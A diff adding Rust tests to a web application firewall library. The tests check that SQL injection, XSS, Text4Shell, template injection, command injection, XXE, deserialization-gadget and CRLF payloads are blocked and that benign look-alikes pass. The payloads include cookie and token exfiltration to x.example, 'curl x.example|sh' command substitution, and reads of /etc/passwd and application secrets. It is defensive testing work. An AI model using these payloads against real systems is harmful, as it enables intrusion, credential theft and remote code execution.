@@ -7,6 +7,7 @@
 use std::io::Cursor;
 
 use serde_json::{Value, json};
+use waf_user::detect::collect::{TOKENIZER_BUDGET, TOKENIZER_LIMIT_RULE};
 use waf_user::detect::{
     Action, DetectConfig, Engine, Exclusion, HeaderMatch, KeywordList, Kind, OneOrMany,
     OperatorRule, Risk, RuleAction, Verdict, inspect_line, inspect_lines,
@@ -1121,4 +1122,304 @@ fn a_number_then_a_boolean_literal_blocks_and_prose_passes() {
         let v = get(e, &format!("/search?q={q}"));
         assert_eq!(v.action, Action::Pass, "{q}: {:?}", v.attacks);
     }
+}
+
+/// Values the SQL tokenizer reads before a payload only libinjection
+/// catches never turn it off: a long note (the old budget was bytes),
+/// and more such values than a request may have (the budget in runs)
+/// block the request themselves.
+#[test]
+fn padding_before_a_payload_never_turns_the_tokenizers_off() {
+    let e = default_engine();
+    let payload = "1 AND (SELECT password FROM users LIMIT 1) LIKE 'a%'";
+    let alone = post(
+        e,
+        "/api",
+        "application/json",
+        &json!({ "id": payload }).to_string(),
+    );
+    assert_blocks_with(&alone, "sqli-libinjection", "alone");
+    let note = "It's a long note. ".repeat(4000)[..65_500].to_owned();
+    let body = json!({ "note": note, "id": payload }).to_string();
+    let v = post(e, "/api", "application/json", &body);
+    assert_blocks_with(&v, "sqli-libinjection", "after a 64 kB note");
+    // 200 fields of a few hundred bytes each, in a form.
+    let field = "it's ".repeat(66);
+    let form: Vec<String> = (0..200).map(|i| format!("f{i}={field}")).collect();
+    let body = format!("{}&id={}", form.join("&"), payload.replace(' ', "+"));
+    let v = post(e, "/f", "application/x-www-form-urlencoded", &body);
+    assert_blocks_with(&v, "sqli-libinjection", "after 200 form fields");
+    // Past the count of runs: the request blocks on the limit.
+    let many: Vec<String> = (0..TOKENIZER_BUDGET).map(|i| format!("it's {i}")).collect();
+    let body = json!({ "notes": many, "id": payload }).to_string();
+    let v = post(e, "/api", "application/json", &body);
+    assert_blocks_with(&v, TOKENIZER_LIMIT_RULE, "past the count");
+    // Just under it, benign values alone pass.
+    let many: Vec<String> = (0..TOKENIZER_BUDGET).map(|i| format!("it's {i}")).collect();
+    let v = post(e, "/api", "application/json", &json!(many).to_string());
+    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
+}
+
+/// Every byte but letters and digits percent-encoded.
+fn pct(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() {
+                char::from(b).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// Each shape blocks with its rule in a query and a JSON body, and each
+/// look-alike passes in a query.
+fn assert_shapes(rule: &str, attacks: &[&str], lookalikes: &[&str]) {
+    let e = default_engine();
+    for a in attacks {
+        let q = pct(a);
+        assert_blocks_with(&get(e, &format!("/a?x={q}")), rule, a);
+        let body = json!({ "x": a }).to_string();
+        assert_blocks_with(&post(e, "/a", "application/json", &body), rule, a);
+    }
+    for l in lookalikes {
+        let q = pct(l);
+        let v = get(e, &format!("/a?x={q}"));
+        assert_eq!(v.action, Action::Pass, "{l}: {:?}", v.attacks);
+    }
+}
+
+/// A number, a logical operator and a condition on a column: a blind
+/// injection in a numeric parameter, without quotes.
+#[test]
+fn a_number_then_a_condition_on_a_column_blocks_and_prose_passes() {
+    assert_shapes(
+        "sqli-number-condition",
+        &[
+            "1 AND password>0x6d",
+            "1 AND password LIKE 0x6125",
+            "1 AND password GLOB 'a*'",
+            "1 AND`password`>0x6d",
+            "1/**/AND/**/users.password>x'6d'",
+            "1\nAND\npassword ILIKE 'a%'",
+            "0 OR id>0",
+            "1 AND is_admin=1",
+            "1 AND length(password) BETWEEN 1 AND 10",
+            "1 AND 2 IN (1,2)",
+            "1 AND NULL IS NULL",
+        ],
+        &[
+            "flags and mask>0x10",
+            "score 0 or rank>0",
+            "10 or fewer between 5 and 9",
+            "2023 and 2024 between us and them",
+            "2 or more items in (stock)",
+            "1 or 2 (maybe 3)",
+            "4 and the rest > 3",
+        ],
+    );
+}
+
+/// A break out of a JavaScript string into a call and back.
+#[test]
+fn a_javascript_string_breakout_blocks_and_prose_passes() {
+    assert_shapes(
+        "xss-js-string-breakout",
+        &[
+            "'-setTimeout(name)-'",
+            "'?Function(name)():'",
+            "'-[].map.constructor(name)()-'",
+            "\")||fetch('//x.example/'+document.cookie)||(\"",
+            "'+navigator.sendBeacon('//x.example',localStorage.token)+'",
+        ],
+        &[
+            "don't-setTimeout(name)-again",
+            "call setTimeout(name) later",
+            "\"Hello\" - said(me) - \"ok\"",
+            "'quoted' - text (with parens) - 'more'",
+        ],
+    );
+}
+
+/// Apache Commons Text lookups that run code, read files or URLs, or
+/// resolve names (Text4Shell).
+#[test]
+fn commons_text_lookups_block_and_shell_expansions_pass() {
+    assert_shapes(
+        "text4shell-lookup",
+        &[
+            "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
+            "${file:UTF-8:/etc/passwd}",
+            "${url:UTF-8:http://x.example/}",
+            "${dns:address|x.example}",
+        ],
+        &["${url}", "${file}", "${url:0:5}", "${file.encoding}"],
+    );
+}
+
+/// ERB tags that open files or processes, read the environment or the
+/// application's secrets.
+#[test]
+fn erb_tags_that_reach_the_system_block_and_views_pass() {
+    assert_shapes(
+        "ssti-expression",
+        &[
+            "<%= open('|id').read %>",
+            "<%= spawn 'id' %>",
+            "<%= ENV['SECRET_KEY_BASE'] %>",
+            "<%= Rails.application.secrets.secret_key_base %>",
+            "<%= Marshal.load(params[:x]) %>",
+            "{{settings.SECRET_KEY}}",
+        ],
+        &[
+            "<%= user.name %>",
+            "<%= link_to 'Home', root_path %>",
+            "<%= open_graph_tags %>",
+            "<%= spawn_point %>",
+        ],
+    );
+}
+
+/// Commands no list had after a separator, and a delay after a line
+/// break or `&`.
+#[test]
+fn more_commands_and_delays_after_separators_block() {
+    assert_shapes(
+        "cmdi-separator-command",
+        &[
+            "; msbuild x.xml",
+            "| msiexec /q /i http://x.example/a.msi",
+            "& psql -h x",
+        ],
+        &["see you; calc later", "lunch; start at noon"],
+    );
+    assert_shapes(
+        "cmdi-pipe-recon",
+        &["8.8.8.8\nsleep 5", "a&sleep 5", "a && sleep 5"],
+        &["tom & jerry sleep 8 hours"],
+    );
+}
+
+/// JSON, XML and form bodies in UTF-16, UTF-32 or EBCDIC (which JSON and
+/// XML readers detect and decode by themselves) block, whatever the
+/// Content-Type says.
+#[test]
+fn wide_charset_bodies_block() {
+    let e = default_engine();
+    let utf16le = |s: &str| -> Vec<u8> { s.encode_utf16().flat_map(u16::to_le_bytes).collect() };
+    let json = r#"{"id":"1 union select password from users","c":"$(curl x.example|sh)"}"#;
+    let xml =
+        r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
+    let mut bom = vec![0xFE, 0xFF];
+    bom.extend(json.encode_utf16().flat_map(u16::to_be_bytes));
+    for (ct, body) in [
+        ("application/json", utf16le(json)),
+        ("application/json", bom),
+        ("text/xml", utf16le(xml)),
+        ("application/xml", vec![0x4C, 0x6F, 0xA7, 0x94, 0x93, 0x40]),
+    ] {
+        let headers = vec![
+            ("Host".to_owned(), "app.example".to_owned()),
+            ("User-Agent".to_owned(), UA.to_owned()),
+            ("Content-Type".to_owned(), ct.to_owned()),
+        ];
+        let req = Request::from_parts("POST", "/a", headers, body, e.limits()).expect("request");
+        assert_blocks_with(&e.inspect(&req, None), "protocol-charset-evasion", ct);
+    }
+}
+
+/// Deserialization markers in JSON bodies: jsonpickle's tags, Jackson's
+/// gadget classes and H2's script URL, MongoDB operators a login form
+/// never sends; PHP's object with a signed length. A .NET `$type` passes.
+#[test]
+fn json_gadgets_and_operators_block() {
+    let e = default_engine();
+    for (body, rule) in [
+        (
+            r#"{"a":{"py/object":"os.system","py/newargs":["id"]}}"#,
+            "python-jsonpickle",
+        ),
+        (
+            r#"{"py/reduce":[{"py/function":"os.system"},["id"]]}"#,
+            "python-jsonpickle",
+        ),
+        (
+            r#"["ch.qos.logback.core.db.DriverManagerConnectionSource",{"url":"jdbc:h2:mem:"}]"#,
+            "java-jackson-gadget",
+        ),
+        (
+            r#"{"url":"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://x.example/a.sql'"}"#,
+            "java-jackson-gadget",
+        ),
+        (
+            r#"{"username":"admin","password":{"$size":0}}"#,
+            "nosql-operator-name",
+        ),
+        (r#"{"n":{"$mod":[1,0]}}"#, "nosql-operator-name"),
+    ] {
+        assert_blocks_with(&post(e, "/api", "application/json", body), rule, body);
+    }
+    let v = post(
+        e,
+        "/f",
+        "application/x-www-form-urlencoded",
+        "d=O:%2B8:\"stdClass\":0:{}",
+    );
+    assert_blocks_with(&v, "php-serialized-object", "O:+8");
+    let v = post(
+        e,
+        "/api",
+        "application/json",
+        r#"{"$type":"MyApp.Models.Order, MyApp","id":3}"#,
+    );
+    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
+}
+
+/// Command substitution and template expressions in an uploaded file's
+/// name (applications hand names to shells and templates); ordinary names
+/// pass.
+#[test]
+fn commands_and_templates_in_upload_names_block() {
+    let e = default_engine();
+    let upload = |name: &str| {
+        let body = format!(
+            "--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\
+             Content-Type: image/jpeg\r\n\r\nx\r\n--b1--\r\n"
+        );
+        post(e, "/up", "multipart/form-data; boundary=b1", &body)
+    };
+    for (name, rule) in [
+        ("$(curl x.example|sh).jpg", "cmdi-substitution-command"),
+        ("`id`.png", "cmdi-hard-separator-command"),
+        ("a$(sleep 5).jpg", "cmdi-substitution-command"),
+        ("{{7*7}}.jpg", "ssti-expression"),
+    ] {
+        assert_blocks_with(&upload(name), rule, name);
+    }
+    for name in [
+        "photo (1).jpg",
+        "budget 2024 & plans.xlsx",
+        "holiday photo.png",
+    ] {
+        let v = upload(name);
+        assert_eq!(v.action, Action::Pass, "{name}: {:?}", v.attacks);
+    }
+}
+
+/// Response headers injected after a line break: caching, authentication
+/// and preload headers too; a link in a comment passes.
+#[test]
+fn more_injected_response_headers_block() {
+    let e = default_engine();
+    for q in [
+        "%0d%0aCache-Control:public",
+        "%0d%0aSet-Cookie2:a=b",
+        "%0d%0aLink:%3C//x.example%3E;rel=preload",
+        "%0d%0aWWW-Authenticate:Basic",
+    ] {
+        assert_blocks_with(&get(e, &format!("/a?r={q}")), "crlf-header-injection", q);
+    }
+    let v = get(e, "/a?r=Check%20this%0d%0aLink:%20https://example.com");
+    assert_eq!(v.action, Action::Pass, "{:?}", v.attacks);
 }
